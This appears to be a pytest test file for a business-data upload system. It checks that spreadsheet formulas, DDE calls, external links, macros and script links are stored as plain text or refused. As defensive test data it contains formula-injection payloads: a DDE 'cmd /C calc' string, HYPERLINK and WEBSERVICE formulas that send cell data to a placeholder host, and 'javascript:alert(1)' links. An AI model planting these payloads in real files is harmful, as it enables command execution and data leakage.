"""Section A: formulas and active content in cells and in the package."""

import io

import openpyxl
import pytest

from balikpapan.intake.uploads import confirm
from industry.models import Business
from tests.intake.importing import export
from tests.sheets import xlsx
from tests.spreadsheets.building import relations, xlsx_parts, zip_of
from tests.trust.verdicts import Case, by_command, cell, check_every_list, checker, named

HEADINGS = ["Nama Usaha", "Tenaga Kerja", "Tahun Data"]


def raw(heading: str, odd: str, *, styles: str = "", parts: dict | None = None) -> bytes:
    """One business whose second cell is written as this XML."""
    return zip_of(raw_parts(heading, odd, styles=styles) | (parts or {}))


def raw_parts(heading, odd, **more):
    texts = [
        f'<c r="{letter}{row}" t="inlineStr"><is><t>{text}</t></is></c>'
        for letter, row, text in (
            ("A", 1, "Nama Usaha"), ("B", 1, heading), ("C", 1, "Tahun Data"),
            ("A", 2, "Amplang Siti"),
        )
    ]  # fmt: skip
    rows = f'<row r="1">{"".join(texts[:3])}</row><row r="2">{texts[3]}{odd}'
    return xlsx_parts(rows + '<c r="C2"><v>2024</v></c></row>', **more)


def with_relation(kind: str, target: str) -> bytes:
    """A sheet that points at something outside itself."""
    return raw("Merek", "", parts={
        "xl/worksheets/_rels/sheet1.xml.rels": relations(("rId1", kind, target)),
        "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0",
    })  # fmt: skip


def linked() -> bytes:
    """A workbook with a link to a file on some server, and a DDE call."""
    parts = raw_parts("Merek", "")
    parts["xl/_rels/workbook.xml.rels"] = relations(
        ("rId1", "worksheet", "worksheets/sheet1.xml"),
        ("rId9", "externalLink", "externalLinks/externalLink1.xml"),
    )
    parts["xl/externalLinks/externalLink1.xml"] = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    )
    return zip_of(parts)


def clicking() -> bytes:
    """A cell that is a link to a script."""
    book = openpyxl.load_workbook(io.BytesIO(xlsx([["Nama Usaha", "Merek"], ["Amplang", "Siti"]])))
    book.active["B2"].hyperlink = "javascript:alert(1)"
    book.active["B2"].value = "javascript:alert(1)"
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def literal(text: str):
    """A text that must be stored as it stands."""
    return named(text, "A", stored={"name": text})


CASES = [
    pytest.param(
        Case(lambda: raw("Tenaga Kerja", '<c r="B2"><f>1+1</f><v>2</v></c>'), "N",
             ("formula_used",), "=1+1", {"workers_total": 2}),
        id="case-1-cached",
    ),
    pytest.param(
        Case(lambda: raw("NIK", '<c r="B2"><f>1+1</f><v>6471012345678901</v></c>'), "HN",
             ("id_as_number",)),
        id="case-1-id",
    ),
    pytest.param(
        Case([HEADINGS, ["Amplang Siti", None, 2024]], "A"), id="case-2-no-formula",
    ),
    pytest.param(
        Case(lambda: raw("Tenaga Kerja", '<c r="B2"><f>1+1</f></c>'), "H",
             ("formula_without_value",), "rumus yang belum dihitung"),
        id="case-2-uncached",
    ),
    pytest.param(literal("=cmd|' /C calc'!A0"), id="case-3-cmd"),
    pytest.param(literal('=HYPERLINK("http://contoh.invalid/?x="&A1)'), id="case-4-hyperlink"),
    pytest.param(literal('=WEBSERVICE("http://contoh.invalid/")'), id="case-4-webservice"),
    pytest.param(literal('=IMPORTXML("http://contoh.invalid","//a")'), id="case-4-importxml"),
    pytest.param(literal("+1+1"), id="case-5-plus"),
    pytest.param(literal("-1+1"), id="case-6-minus"),
    pytest.param(literal("@SUM(1)"), id="case-7-at"),
    pytest.param(named("\t=1+1", "A", stored={"name": "=1+1"}), id="case-8-tab"),
    pytest.param(named("_x000D_=1", "A", stored={"name": "=1"}), id="case-9-cr"),
    pytest.param(cell("No. HP", "=D9062", "H"), id="case-9-formula-in-phone"),
    pytest.param(named("_x0000_=1", "H", "bad_characters"), id="case-10-nul"),
    pytest.param(literal("＝1+1"), id="case-10-full-width"),
    pytest.param(named("\xa0=1", "A", stored={"name": "=1"}), id="case-10-nbsp"),
    pytest.param(
        cell("No. HP", "+62 812-5550-0001", "N", stored={"phone": "081255500001"}),
        id="case-11-phone",
    ),
    pytest.param(cell("Tenaga Kerja", -5, "H", "out_of_range"), id="case-11-minus-five"),
    pytest.param(
        cell("Lintang", -1.25, "A"), id="case-11-minus-allowed",
    ),
    pytest.param(
        Case(lambda: raw("Merek", "", parts={"xl/vbaProject.bin": b"x"}), "F", wording="bermakro",
             name="data.xlsm"),
        id="case-12-vba-part",
    ),
    pytest.param(
        Case(lambda: raw("Merek", "", parts={
            "[Content_Types].xml": "<Types>application/vnd.ms-excel.sheet.macroEnabled.main+xml"
        }), "F", wording="simpan sebagai .xlsx", name="data.xlsx"),
        id="case-12-content-type",
    ),
    pytest.param(Case(linked, "N", ("external_links",)), id="case-13-link-and-dde"),
    pytest.param(
        Case(lambda: with_relation("oleObject", "../embeddings/oleObject1.bin"), "N",
             ("embedded_objects",)),
        id="case-13-ole",
    ),
    pytest.param(
        Case(clicking, "A", stored={"brand": "javascript:alert(1)"}), id="case-14-script-link"
    ),
]  # fmt: skip


@pytest.mark.parametrize("case", CASES)
def test_p49_active_content_is_read_as_plain_text_or_refused(case, desk):
    checker(case, desk)


LITERALS = [
    "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "＝1+1", "javascript:alert(1)",
    '=HYPERLINK("http://contoh.invalid")',
]  # fmt: skip


@pytest.mark.parametrize("extension", ["xlsx", "csv"])
def test_p47_what_looks_like_a_formula_leaves_as_text_and_comes_back_the_same(desk, extension):
    rows = [
        ["Nama Usaha", "No. HP"],
        *([text, f"08125550000{n}"] for n, text in enumerate(LITERALS)),
    ]
    stored = checker(Case(rows, "A"), desk)
    confirm(stored.upload, stored.upload.by)
    names = {b.name for b in Business.objects.all()}

    file = export(extension=extension)
    again = checker(Case(file, "A", name=f"ekspor.{extension}"), desk)

    assert names == set(LITERALS)
    assert again.tally[:4] == (0, 0, len(LITERALS), 0)
    if extension == "xlsx":
        cells = [c for row in openpyxl.load_workbook(io.BytesIO(file)).active for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f" or c.hyperlink]
    else:
        lines = file.decode("utf-8-sig").splitlines()
        assert not [
            f for line in lines for f in line.split(";") if f.strip('"')[:1] in tuple("=+-@")
        ]
    check_every_list(desk)


def test_p42_a_script_link_is_never_a_link_on_any_page(desk):
    checker(Case(clicking, "A", stored={"brand": "javascript:alert(1)"}), desk)

    page = desk.get(f"/industry/business/{Business.objects.get().pk}/change/", follow=True)

    assert 'href="javascript' not in page.content.decode()


@pytest.mark.parametrize("case", CASES[::5])
def test_the_command_gives_the_same_verdict(case, tmp_path, db):
    report = by_command(case, case.made(), tmp_path)

    assert report["exit"] == {"F": 3, "Q": 2}.get(case.verdict, 0)
    assert set(case.codes) <= {problem["code"] for problem in report["problems"]}
